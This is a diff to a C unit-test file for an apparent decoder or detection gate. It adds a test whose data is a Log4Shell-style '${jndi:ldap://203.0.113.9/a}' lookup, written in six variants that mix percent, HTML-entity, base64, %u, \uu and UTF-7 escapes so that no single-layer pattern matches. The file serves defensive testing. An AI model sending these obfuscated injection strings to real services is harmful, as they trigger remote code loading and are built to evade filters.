@@ -213,15 +213,37 @@ static void check_chain(struct span plain, const struct encoder *innermost,
 static void every_encoding_is_seen_in_base64_of_base64(void)
 {
     static const char *const chains[][3] = {
-        {"base64", "base64", NULL},        {"base64url", "base64", NULL},
-        {"base64", "base64url", NULL},     {"base64", "base64", "base64"},
-        {"base64", "utf-16 le", "base64"}, {"base64", "utf-16 be", "base64"},
+        {"base64", "base64", NULL},
+        {"base64url", "base64", NULL},
+        {"base64", "base64url", NULL},
+        {"base64", "base64", "base64"},
+        {"base64", "utf-16 le", "base64"},
+        {"base64", "utf-16 be", "base64"},
+        {"base64", "utf-16 le", "percent component"},
     };
     for (size_t e = 0; e < encoders_n(); e++) {
         for (size_t i = 0; i < ARRAY_LEN(chains); i++) {
             check_chain(corpus[0], encoder_at(e), chains[i]);
             check_chain(corpus[2], encoder_at(e), chains[i]);
         }
+    }
+}
+
+/* Only some characters of each layer are escaped, so that no pattern for one layer is there. */
+static void mixed_escapes_pass_the_gate(void)
+{
+    static const struct span plain = SPAN_LITERAL("${jndi:ldap://203.0.113.9/a}");
+    static const struct span rows[] = {
+        SPAN_LITERAL("=24&#x3d;7Bjndi:ldap://203.0.113.9/a&#x3d;7D"),
+        SPAN_LITERAL("%3D3D24%3D3D7Bjndi:ldap://203.0.113.9/a%3D3D7D"),
+        SPAN_LITERAL("%26amp%3B%26num%3Bx24%26semi%3B%26amp%3B%26num%3Bx7b%26semi%3B"
+                     "jndi:ldap://203.0.113.9/a%26amp%3B%26num%3Bx7d%26semi%3B"),
+        SPAN_LITERAL("&#37;u004aH&#37;u0074&#37;u0071bmRpOmxkYXA6Ly8yMDMuMC4xMTMuOS9hfQ=="),
+        SPAN_LITERAL("%5Cuu004AHt%5Cuu0071%5Cuu0062mRpOmxkYXA6Ly8yMDMuMC4xMTMuOS9hfQ=="),
+        SPAN_LITERAL("+-ACQ-+-AHs-jndi:ldap://203.0.113.9/a+-AH0-"),
+    };
+    for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
+        check(plain, rows[i], "mixed", "mixed");
     }
 }
 
@@ -383,6 +405,7 @@ static CU_TestInfo pair_tests[] = {
     {"the corpus is found as it stands", the_corpus_is_found_as_it_stands},
     {"every encoding is undone", every_encoding_is_undone},
     {"every encoding is seen in base64 of base64", every_encoding_is_seen_in_base64_of_base64},
+    {"mixed escapes pass the gate", mixed_escapes_pass_the_gate},
     {"every ordered pair is undone", every_ordered_pair_is_undone},
     {"the word of an attempt may come late", the_word_of_an_attempt_may_come_late},
     {"UTF-16 is not torn", utf16_is_not_torn},
